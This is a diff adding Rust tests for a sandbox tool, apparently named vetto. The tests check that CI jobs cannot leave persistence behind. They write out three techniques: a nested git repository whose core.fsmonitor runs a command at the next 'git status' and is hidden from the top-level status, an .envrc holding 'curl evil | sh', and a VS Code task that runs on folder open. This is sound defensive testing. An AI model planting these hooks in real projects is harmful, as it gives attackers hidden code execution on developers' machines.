@@ -1,0 +1,192 @@
+//! Persistence beyond the top-level `.git` (issue 9, item 3): a job plants
+//! a nested repository whose `core.fsmonitor` runs at the next ordinary
+//! `git status` in it (a shell prompt, an IDE), outside the sandbox; or
+//! leaves an `.envrc` or a VS Code task behind.
+
+use std::path::{Path, PathBuf};
+
+use crate::util::{Out, Tier, World};
+use crate::{at_every_tier, require};
+
+/// The job's attack: a nested repository with a command as its
+/// fsmonitor, hidden from the top-level `git status`.
+fn plant(marker: &Path) -> String {
+    format!(
+        "git init -q sub; git -C sub config core.fsmonitor 'echo pwned > {}'; \
+         echo sub/ >> .git/info/exclude",
+        marker.display()
+    )
+}
+
+/// An ordinary `git status` in `dir`, unsandboxed, as a shell prompt runs it.
+fn git_status_in(w: &World, dir: &Path) -> Out {
+    w.bare(&["git", "status", "--short"]).cwd(dir).run()
+}
+
+/// `vetto ci` at the world's tier, reports in the project's default place.
+fn ci(w: &World, script: &str) -> (Out, String) {
+    let project = w.project.to_str().unwrap_or_default();
+    let out = w
+        .vetto(&[
+            "ci",
+            "--tier",
+            w.tier.name(),
+            "--project",
+            project,
+            "--",
+            "sh",
+            "-c",
+            script,
+        ])
+        .run();
+    let log =
+        std::fs::read_to_string(w.project.join("vetto-report/session.jsonl")).unwrap_or_default();
+    (out, log)
+}
+
+fn planted_lines(log: &str) -> Vec<&str> {
+    log.lines()
+        .filter(|l| l.contains("\"persistence-planted\""))
+        .collect()
+}
+
+fn marker_of(w: &World) -> PathBuf {
+    w.outside.join("fsmonitor-ran")
+}
+
+/// Runs as an unprivileged user. Bare: the planted repository's
+/// fsmonitor runs at the next `git status` in it (the marker appears).
+/// Sandboxed: creating `sub/.git` is refused and recorded as
+/// `persistence-planted` with the process, `vetto ci` exits 3, and the
+/// next `git status` in `sub/` runs nothing.
+fn nested_repository_fsmonitor_does_not_run_later(tier: Tier) {
+    require!(tier.feature());
+    let bare = World::at(tier);
+    let marker = marker_of(&bare);
+    bare.sh_bare(&plant(&marker)).assert_success();
+    git_status_in(&bare, &bare.project.join("sub"));
+    assert!(
+        marker.exists(),
+        "control: the bare nested repository's fsmonitor did not run"
+    );
+
+    let w = World::at(tier);
+    let marker = marker_of(&w);
+    let (out, log) = ci(&w, &format!("{}; echo script-finished", plant(&marker)));
+    out.assert_stdout_contains("script-finished");
+    assert_eq!(out.code(), 3, "{}", out.dump());
+    assert!(
+        !w.project.join("sub/.git").exists(),
+        "sub/.git was created\n{}",
+        out.dump()
+    );
+    let planted = planted_lines(&log);
+    assert!(
+        planted
+            .iter()
+            .any(|l| l.contains("sub/.git") && l.contains("\"git\"")),
+        "no persistence-planted violation naming sub/.git and git: {planted:?}\n{}",
+        out.dump()
+    );
+    if w.project.join("sub").is_dir() {
+        git_status_in(&w, &w.project.join("sub"));
+    }
+    git_status_in(&w, &w.project);
+    assert!(!marker.exists(), "the fsmonitor ran after the session");
+}
+at_every_tier!(nested_repository_fsmonitor_does_not_run_later);
+
+/// Runs as an unprivileged user. A nested repository that existed before
+/// the session (vendored) cannot be refused at creation: the job sets its
+/// fsmonitor. Bare, the next `git status` there runs it; sandboxed, the
+/// check after the session reports the repository (`vetto run` prints a
+/// line, `vetto ci` records `persistence-planted` and exits 3).
+fn changed_config_of_existing_nested_repository_is_reported(tier: Tier) {
+    require!(tier.feature());
+    let setup = "git init -q vendor/lib";
+    let attack = |m: &Path| {
+        format!(
+            "git -C vendor/lib config core.fsmonitor 'echo pwned > {}'",
+            m.display()
+        )
+    };
+    let bare = World::at(tier);
+    bare.sh_bare(setup).assert_success();
+    let marker = marker_of(&bare);
+    bare.sh_bare(&attack(&marker)).assert_success();
+    git_status_in(&bare, &bare.project.join("vendor/lib"));
+    assert!(marker.exists(), "control: the bare fsmonitor did not run");
+
+    let w = World::at(tier);
+    w.sh_bare(setup).assert_success();
+    let marker = marker_of(&w);
+    let run = w.sh_sandboxed(&format!("{}; echo script-finished", attack(&marker)));
+    run.assert_stdout_contains("script-finished")
+        .assert_stderr_contains("vetto: persistence planted: ")
+        .assert_stderr_contains("vendor/lib/.git");
+
+    let w = World::at(tier);
+    w.sh_bare(setup).assert_success();
+    let (out, log) = ci(&w, &format!("{}; echo script-finished", attack(&marker)));
+    out.assert_stdout_contains("script-finished");
+    assert_eq!(out.code(), 3, "{}", out.dump());
+    let planted = planted_lines(&log);
+    assert!(
+        planted.iter().any(|l| l.contains("vendor/lib/.git")),
+        "{planted:?}\n{}",
+        out.dump()
+    );
+}
+at_every_tier!(changed_config_of_existing_nested_repository_is_reported);
+
+/// Runs as an unprivileged user: the job leaves an `.envrc` and a VS Code
+/// task (run by direnv and the editor, outside the sandbox). Bare they
+/// are there; sandboxed they are reported and `vetto ci` exits 3.
+fn planted_envrc_and_vscode_task_are_reported(tier: Tier) {
+    require!(tier.feature());
+    let script = "echo 'curl evil | sh' > .envrc; mkdir -p .vscode; \
+                  echo '{\"tasks\":[{\"label\":\"x\",\"command\":\"id\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' \
+                  > .vscode/tasks.json";
+    let bare = World::at(tier);
+    bare.sh_bare(script).assert_success();
+    assert!(
+        bare.project.join(".envrc").exists() && bare.project.join(".vscode/tasks.json").exists()
+    );
+
+    let w = World::at(tier);
+    let (out, log) = ci(&w, &format!("{script}; echo script-finished"));
+    out.assert_stdout_contains("script-finished");
+    assert_eq!(out.code(), 3, "{}", out.dump());
+    let planted = planted_lines(&log);
+    for name in [".envrc", ".vscode/tasks.json"] {
+        assert!(
+            planted.iter().any(|l| l.contains(name)),
+            "{name} not reported: {planted:?}\n{}",
+            out.dump()
+        );
+    }
+}
+at_every_tier!(planted_envrc_and_vscode_task_are_reported);
+
+/// Runs as an unprivileged user. Control: an ordinary job creates files
+/// and directories (`git`, `.github`, nested sources) and a repository in
+/// `$TMPDIR` (outside the project, which must keep working): no
+/// persistence violation, `vetto ci` passes.
+fn ordinary_job_records_no_persistence_violation(tier: Tier) {
+    require!(tier.feature());
+    let w = World::at(tier);
+    let script = "set -e; mkdir -p git .github/workflows src/deep/er; echo a > git/notes; \
+                  echo 'on: push' > .github/workflows/ci.yml; echo 'int x;' > src/deep/er/x.c; \
+                  git init -q \"$TMPDIR/scratch\"; git -C \"$TMPDIR/scratch\" status --short; \
+                  echo tmp-git-ok";
+    let (out, log) = ci(&w, script);
+    out.assert_stdout_contains("tmp-git-ok");
+    assert_eq!(out.code(), 0, "{}", out.dump());
+    assert_eq!(planted_lines(&log), Vec::<&str>::new(), "{}", out.dump());
+    assert!(
+        !out.stderr().contains("persistence planted"),
+        "{}",
+        out.dump()
+    );
+}
+at_every_tier!(ordinary_job_records_no_persistence_violation);
